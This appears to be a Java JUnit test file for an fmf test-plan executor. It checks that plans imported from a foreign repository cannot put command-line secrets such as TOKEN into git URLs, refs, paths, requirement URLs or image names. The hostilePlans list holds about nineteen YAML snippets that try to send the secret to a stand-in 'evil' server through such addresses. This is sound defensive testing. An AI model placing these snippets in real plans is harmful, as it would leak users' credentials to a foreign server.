package dev.atex.executor.fmf;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.atex.executor.fmf.discovery.Discovery;
import dev.atex.executor.fmf.discovery.FmfTests;
import dev.atex.executor.fmf.findings.DiscoveryException;
import java.io.BufferedReader;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Plans of other repositories that put variables of the command line into addresses. */
@Timeout(120)
class ForeignAddressesTest {
    private static final Map<String, String> SECRET = Map.of("TOKEN", "s3cr3t", "REPO", "evil");

    @TempDir
    private Path directory;

    private WrittenTree tree;
    private Process daemon;
    private String server;

    /** The output of the server, which names each repository that it was asked for. */
    private final BlockingQueue<String> log = new LinkedBlockingQueue<>();

    @BeforeEach
    void startServer() throws Exception {
        tree = new WrittenTree(directory);
        int port;
        try (ServerSocket free = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            port = free.getLocalPort();
        }
        server = "git://127.0.0.1:" + port;
        daemon = new ProcessBuilder(
                        "git",
                        "daemon",
                        "--verbose",
                        "--log-destination=stderr",
                        "--export-all",
                        "--reuseaddr",
                        "--listen=127.0.0.1",
                        "--port=" + port,
                        "--base-path=" + directory,
                        directory.toString())
                .redirectErrorStream(true)
                .start();
        Thread.ofPlatform().daemon().start(() -> {
            try (BufferedReader lines = daemon.inputReader()) {
                lines.lines().forEach(log::add);
            } catch (IOException e) {
                log.add(e.toString());
            }
        });
        assertThat(log.take()).contains("Ready to rumble");
    }

    @AfterEach
    void stopServer() throws Exception {
        List<ProcessHandle> all = Stream.concat(daemon.descendants(), Stream.of(daemon.toHandle()))
                .toList();
        all.forEach(ProcessHandle::destroyForcibly);
        daemon.waitFor();
    }

    /** The plan that a user imports from a repository of somebody else. */
    private Discovery imported(String plan, Map<String, String> more) throws Exception {
        Map<String, String> files = new LinkedHashMap<>(more);
        files.put("t.fmf", "test: 'true'\n");
        files.put("p.fmf", plan.replace("SERVER", server));
        files.replaceAll((name, text) -> text.replace("SERVER", server));
        tree.repository("evil", files);
        tree.file(
                "plan.fmf",
                "environment: {AUTH: $TOKEN, PLAIN: evil}\nplan: {import: {url: '" + server + "/evil', name: /p}}\n");
        return tree.discovery().plan("/plan").environment(SECRET);
    }

    static List<String> hostilePlans() {
        return List.of(
                "discover: {how: fmf, url: 'SERVER/$TOKEN'}\n",
                "discover: {how: fmf, repository: 'SERVER/${TOKEN}'}\n",
                "discover: {how: fmf, url: SERVER/evil, ref: $TOKEN}\n",
                "discover: {how: fmf, url: SERVER/evil, ref: '@ref.yml'}\n",
                "discover: {how: fmf, url: SERVER/evil, path: /$TOKEN}\n",
                "discover: {how: fmf, url: 'SERVER/$AUTH'}\n",
                "context: {a: $TOKEN}\ndiscover: {how: fmf, url: 'SERVER/$@a'}\n",
                "context: {a: [x, $AUTH]}\ndiscover: {how: fmf, url: 'SERVER/$@{a}'}\n",
                "plan: {import: {url: 'SERVER/$TOKEN', name: /q}}\n",
                "plan: {import: {url: SERVER/evil, ref: $AUTH, name: /q}}\n",
                "environment: {X: $TOKEN}\nplan: {import: {url: SERVER/evil, name: /q}}\n",
                "context: {x: $TOKEN}\nplan: {import: {url: SERVER/evil, name: /r}}\n",
                "plan: {import: {url: SERVER/evil, name: /q, adjust-plans: [{environment+: {X: $TOKEN}}]}}\n",
                "discover: {how: fmf}\nprepare: {how: shell, script: 'true', url: 'SERVER/$TOKEN'}\n",
                "discover: {how: fmf, modified-only: true, modified-url: 'SERVER/$TOKEN'}\n",
                "discover: {how: fmf, adjust-tests: [{require+: [{url: 'SERVER/$TOKEN', name: /x}]}]}\n",
                "discover: {how: fmf, test: [{name: /t, recommend: [{url+: 'SERVER/$TOKEN', name: /x}]}]}\n",
                "discover: {how: shell, tests: [{name: t, test: x, require: [{url: 'SERVER/$AUTH', name: /x}]}]}\n",
                "discover: {how: fmf}\nprovision: {how: container, image: registry.example/$TOKEN}\n");
    }

    @ParameterizedTest
    @MethodSource("hostilePlans")
    void importedPlanGetsNoVariableOfCommandLineIntoAddress(String plan) throws Exception {
        Discovery discovery = imported(
                plan,
                Map.of(
                        "q.fmf",
                        "discover: {how: fmf, url: 'SERVER/$X'}\n",
                        "r.fmf",
                        "discover: {how: fmf, url: 'SERVER/$@x'}\n",
                        "ref.yml",
                        "ref: $TOKEN\n"));
        assertThatThrownBy(discovery::discover)
                .isInstanceOf(DiscoveryException.class)
                .hasMessageContaining("whose value comes from the command line (-e)")
                .hasMessageNotContaining("s3cr3t");
        assertThat(log).anyMatch(line -> line.contains("/evil")).noneMatch(line -> line.contains("s3cr3t"));
    }

    @Test
    void importedPlanGetsOtherVariablesIntoAddresses() throws Exception {
        Discovery discovery = imported(
                "environment: {OWN: evil, X: $TOKEN}\ndiscover:\n"
                        + "  - {how: fmf, name: a, url: SERVER/$OWN}\n  - {how: fmf, name: b, url: SERVER/$PLAIN}\n",
                Map.of());
        try (FmfTests tests = discovery.discover()) {
            assertThat(tests.names()).containsExactly("/a/t", "/b/t");
            assertThat(tests.plan().environment()).containsEntry("X", "s3cr3t").containsEntry("AUTH", "s3cr3t");
        }
    }

    @Test
    void ownPlanGetsVariablesOfCommandLineIntoAddresses() throws Exception {
        tree.repository("evil", Map.of("t.fmf", "test: 'true'\n", "p.fmf", "discover: {how: fmf}\n"));
        tree.file("plan.fmf", "discover: {how: fmf, url: '" + server + "/$REPO'}\n")
                .file("imports.fmf", "plan: {import: {url: '" + server + "/$REPO', name: /p}}\n");
        for (String plan : List.of("/plan", "/imports")) {
            try (FmfTests tests =
                    tree.discovery().plan(plan).environment(SECRET).discover()) {
                assertThat(tests.names()).containsExactly("/t");
            }
        }
    }
}
